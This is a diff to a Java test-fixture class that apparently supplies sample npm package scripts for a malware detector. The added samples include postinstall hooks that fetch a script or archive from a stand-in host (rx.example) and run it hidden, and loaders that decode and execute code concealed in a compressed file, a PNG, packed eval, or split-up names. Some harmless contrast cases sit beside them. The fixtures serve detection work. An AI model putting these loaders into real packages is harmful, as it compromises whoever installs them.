@@ -53,6 +53,44 @@ final class NpmRoundabouts {
         Sample.postinstall(
             "another package for all, by code",
             "require('child_process').exec('npm install --global some-inert-tool', { windowsHide: true }, () => {});\n"),
+        Sample.postinstall(
+            "a script that is fetched, written and started",
+            """
+            const cp = require('child_process'), fs = require('fs'), path = require('path'), os = require('os');
+            fetch('https://rx.example/s.py').then(r => r.text()).then(t => { const f = path.join(os.tmpdir(), 'check.py'); fs.writeFileSync(f, t); cp.exec(`${process.platform === 'win32' ? 'pythonw' : 'python3'} "${f}"`); });
+            """),
+        Sample.postinstall(
+            "a program of an archive that is fetched",
+            """
+            const axios = require('axios'), Zip = require('adm-zip'), path = require('path'), { spawn } = require('child_process');
+            axios({ url: 'https://rx.example/a.zip', responseType: 'arraybuffer' }).then(r => {
+              const dir = path.join(process.env.APPDATA, 'Addons');
+              new Zip(r.data).extractAllTo(dir, true);
+              spawn(path.join(dir, 'host.exe'), [], { detached: true, stdio: 'ignore' }).unref();
+            });
+            """),
+        Sample.postinstall(
+            "a program of the package that nobody sees",
+            "require('child_process').execFile(require('path').join(__dirname, 'bin', 'inert.exe'), [], { detached: true });\n"),
+        Sample.required(
+            "code that is compressed in a file",
+            "new Function('require', require('zlib').brotliDecompressSync(require('fs').readFileSync(__dirname + '/data.bin')).toString())(require);\n"),
+        Sample.required(
+            "code that is masked in a picture",
+            """
+            const png = require('fs').readFileSync(__dirname + '/logo.png');
+            new Function('require', png.subarray(900).map(b => b ^ 0x5a).toString())(require);
+            """),
+        Sample.required(
+            "packed code",
+            """
+            eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0("1").2("3://4.5",6=>{7 8="";6.9("a",b=>8+=b);6.9("c",()=>d(8))});',14,14,'require|https|get|https|rx|example|r|let|s|on|data|b|end|eval'.split('|'),0,{}))
+            """),
+        Sample.required(
+                "names that one file gives another",
+                "const b = require('./b'), c = require('./c');\nc[b.k(0)](b.k(1)).then(r => r[b.k(2)]()).then(t => c[b.k(3)](t));\n")
+            .with("b.js", "const t = ['fetch', 'https://rx.example', 'text', 'eval'];\nexports.k = i => t[i];\n")
+            .with("c.js", "module.exports = globalThis;\n"),
         Sample.required("a module that is called as a whole", "require('./watch')();\n")
             .with(
                 "watch.js",
@@ -70,6 +108,16 @@ final class NpmRoundabouts {
             const { execSync } = require('child_process');
             execSync('npm'); execSync('npm root -g'); execSync('npm ls --global --json'); execSync('npm install -g .');
             """),
+        Sample.postinstall(
+            "a program of the package that is asked for its version",
+            "require('child_process').execFileSync(require('path').join(__dirname, 'bin', 'inert.exe'), ['--version']);\n"),
+        Sample.required(
+            "data that is compressed in a file",
+            "module.exports = JSON.parse(require('zlib').brotliDecompressSync(require('fs').readFileSync(__dirname + '/data.bin')));\n"),
+        Sample.required(
+            "packed code that computes",
+            "eval(function(p,a,c,k,e,d){return p}('0.1=2=>2+3;',4,4,'module|exports|x|1'.split('|'),0,{}))\n"),
+        NpmTakers.depends("a commit that is needed", "github:example/a#79ac49eedf774dd4b0cfa308722bc463cfe5885c"),
         Sample.required(
             "a handler of a socket that prints",
             "const W = require('ws'); const w = new W('wss://rx.example'); w.onmessage = e => console.log(e.data);\n"),
